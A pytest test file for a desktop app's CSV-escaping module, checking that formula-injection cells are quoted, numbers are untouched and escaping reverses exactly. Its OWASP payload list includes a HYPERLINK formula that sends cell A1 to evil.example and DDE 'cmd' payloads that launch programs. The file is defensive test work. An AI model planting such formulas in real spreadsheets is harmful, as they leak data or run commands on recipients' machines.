"""CSV injection (OWASP): which cells are escaped, which are left alone, and that the escape undoes exactly."""

from __future__ import annotations

import csv
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest

from saypro_desktop.core.csv_safety import csv_writer, escape_cell, starts_like_formula, unescape_cell

OWASP = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', "+cmd|' /c calc'!A1", "@SUM(1)", "-2+3",
         "\t=1+1", "\r=1+1", "=1+1", '=cmd|" /C notepad"!\'A1\'', "-- see above"]


@pytest.mark.parametrize("payload", OWASP)
def test_every_owasp_payload_is_written_as_text_and_read_back_unchanged(payload):
    cell = escape_cell(payload)
    assert cell == "'" + payload
    assert unescape_cell(cell) == payload
    assert starts_like_formula(payload)


@pytest.mark.parametrize(("value", "written"), [
    (-2.5, "-2.5"), (-3, "-3"), (Decimal("-0.25"), "-0.25"), ("-2.5", "-2.5"), ("+3", "+3"), ("-1e-3", "-1e-3"),
    ("97.5", "97.5"), ("", ""), (None, ""), ("Refund issued.", "Refund issued."),
    ("+27 82 555 0101", "'+27 82 555 0101"),  # not a number: Excel would try it as a formula (#NULL!)
    ("-2,5", "'-2,5"), ("- item one", "'- item one"),
])
def test_numbers_are_left_alone_and_text_is_escaped(value, written):
    assert escape_cell(value) == written


def test_a_text_column_escapes_number_like_text_but_never_a_number():
    # A phone number in a personal field is text: Excel would turn +27825550101 into 27825550101.
    assert escape_cell("+27825550101", text=True) == "'+27825550101"
    assert escape_cell("-5", text=True) == "'-5"
    assert escape_cell(-5, text=True) == "-5"
    assert escape_cell(True) == "True"


@pytest.mark.parametrize("original", ["'=x", "''+y", "'", "'-2.5", "it's", "=x", "'''@z", "'abc", "-2.5"])
def test_the_round_trip_is_exact_even_for_text_that_begins_with_a_quote(original):
    for text in (False, True):
        assert unescape_cell(escape_cell(original, text=text)) == original


def test_the_writer_escapes_every_cell_and_csv_reads_it_back():
    buf = io.StringIO()
    csv_writer(buf).writerows([["Measure", "Value"], ["=HYPERLINK(\"x\")", -1.5], ["@SUM(1)", "12"]])
    rows = list(csv.reader(io.StringIO(buf.getvalue())))
    assert rows == [["Measure", "Value"], ["'=HYPERLINK(\"x\")", "-1.5"], ["'@SUM(1)", "12"]]
    assert [[unescape_cell(c) for c in r] for r in rows][1] == ["=HYPERLINK(\"x\")", "-1.5"]


def test_every_csv_the_app_writes_goes_through_the_safe_writer():
    root = Path(__file__).resolve().parents[2]
    offenders = []
    for folder in ("saypro_desktop", "saypro_server"):
        for path in (root / folder).rglob("*.py"):
            if path.name == "csv_safety.py":
                continue
            text = path.read_text(encoding="utf-8")
            if re.search(r"csv\.(writer|DictWriter)\(", text):
                offenders.append(str(path.relative_to(root)))
    assert offenders == []
